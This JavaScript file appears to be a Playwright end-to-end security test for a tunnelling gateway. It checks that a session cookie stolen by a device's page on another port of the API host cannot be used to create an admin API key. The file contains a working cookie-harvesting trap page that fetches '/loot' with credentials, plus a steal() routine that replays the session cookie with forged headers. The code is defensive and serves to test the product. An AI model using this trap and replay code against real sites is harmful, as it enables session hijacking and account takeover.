// A device tries to take over the admin. Its TCP endpoint is on the API's host, and cookies know no port: a page that the
// device serves there, and that an address of its tunnel leads to, has the admin's browser bring it the session's cookie.

import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { startAgent } from './agent.js';
import { apiOf } from './api.js';
import { root } from './gateway.js';
import { handOn, until } from './hand.js';
import { said } from './said.js';
import { signInByLink } from './sign-in.js';

const OPERATIONS = join(root, 'src/dashboard/generated/operations.json');

/**
 * @param {any} browser Playwright's
 * @param {import('./gateway.js').RunningGateway} gateway
 */
export async function meetThief(browser, { api, apiKey, signInLink, agentLine }) {
  const device = await startDevice();
  const ask = apiOf(api, apiKey);
  const agents = [startAgent(agentLine, device.port, 'tcp 3000'), startAgent(agentLine, device.port, 'http 3000')];
  const context = await browser.newContext();
  try {
    const hand = handOn(await context.newPage(), api);
    await signInByLink(hand, signInLink);
    /** @type {string[]} */
    let urls = [];
    await until(async () => {
      const { endpoints } = await ask('{ endpoints { nodes { publicUrl } } }');
      urls = endpoints.nodes.map((/** @type {{ publicUrl: string }} */ { publicUrl }) => publicUrl);
      return urls.length === 2;
    }, 'both endpoints of the device are live');
    const [, port = ''] = /^tcp:.*:(\d+)$/m.exec(urls.join('\n')) ?? [];
    const lure = urls.find((url) => url.startsWith('http:')) ?? '';
    device.redirectTo(`http://${new URL(api).hostname}:${port}/trap`);

    await hand.page.goto(lure);
    await until(() => device.cookies.some((cookie) => cookie.includes('__Host-gateway_session=')), 'a cookie came');
    said(
      'a page on another port of the API’s host gets the cookie of the admin’s session: browsers send it there',
      true,
    );

    const before = (await ask('{ apiKeys { totalCount } }')).apiKeys.totalCount;
    const answers = await steal(api, device.cookies);
    const after = (await ask('{ apiKeys { totalCount } }')).apiKeys.totalCount;
    const made = answers
      .filter(({ key }) => key)
      .map(({ key }) => `the device has an admin's API key: ${key.slice(0, 8)}…`);
    const isSafe = made.length === 0 && before === after && answers.every(({ status }) => status === 401);
    said(`the device gets nothing with it: status ${answers.map(({ status }) => status).join(', ')}`, isSafe, made);

    await hand.page.goto(hand.at('endpoints'));
    await hand.heading('Endpoints').waitFor();
    const other = await context.newPage();
    await other.goto(hand.at('access'));
    await other.getByRole('navigation', { name: 'Places' }).waitFor();
    said('the admin is signed in still, in another tab too', true);
    await other.evaluate(() => localStorage.clear());
    await other.reload();
    await other.getByRole('heading', { name: 'Sign in' }).waitFor();
    said('who cleared the storage signs in again', true);
  } finally {
    await context.close();
    await Promise.all(agents.map((agent) => agent.stop()));
    device.stop();
  }
}

/**
 * Uses the cookies as a program that is no browser: it may send whatever headers it likes.
 * @param {string} api
 * @param {string[]} cookies
 * @returns {Promise<{ status: number, key: string }[]>} for each way that was tried.
 */
async function steal(api, cookies) {
  const cookie = cookies.find((text) => text.includes('__Host-gateway_session=')) ?? '';
  const [, token = ''] = /__Host-gateway_session=([^;]*)/.exec(cookie) ?? [];
  const texts = /** @type {Record<string, string>} */ (JSON.parse(readFileSync(OPERATIONS, 'utf8')));
  const [id] = Object.entries(texts).find(([, text]) => text.startsWith('mutation CreateApiKey')) ?? [];
  const body = JSON.stringify({ documentId: `sha256:${id}`, variables: { input: { description: 'of the device' } } });
  const answers = [];
  for (const proof of ['1', '', token, createHash('sha256').update(token).digest('base64url')]) {
    const headers = {
      'Content-Type': 'application/json',
      'Gateway-Dashboard': proof,
      'Sec-Fetch-Site': 'same-origin',
      Origin: api,
      Cookie: cookie,
    };
    const response = await fetch(`${api}/graphql`, { method: 'POST', headers, body });
    const { data, errors } = /** @type {any} */ (await response.json());
    const key = data?.createApiKey?.token ?? '';
    answers.push({ status: errors?.[0].extensions.status ?? response.status, key });
  }
  return answers;
}

/** What the device runs: a page that asks for something of its own origin, and an address that leads to it. */
async function startDevice() {
  /** @type {string[]} */
  const cookies = [];
  let trap = '';
  const server = createServer(({ url, headers }, response) => {
    if (headers.cookie !== undefined) cookies.push(headers.cookie);
    if (url === '/loot') return void response.end('thanks');
    if (url !== '/trap') return void response.writeHead(302, { Location: trap }).end();
    response.setHeader('Content-Type', 'text/html');
    response.end('<!doctype html><title>Welcome</title><script>fetch("/loot", { credentials: "include" })</script>');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return {
    port,
    cookies,
    /** @param {string} url */
    redirectTo(url) {
      trap = url;
    },
    stop() {
      server.close();
      server.closeAllConnections();
    },
  };
}
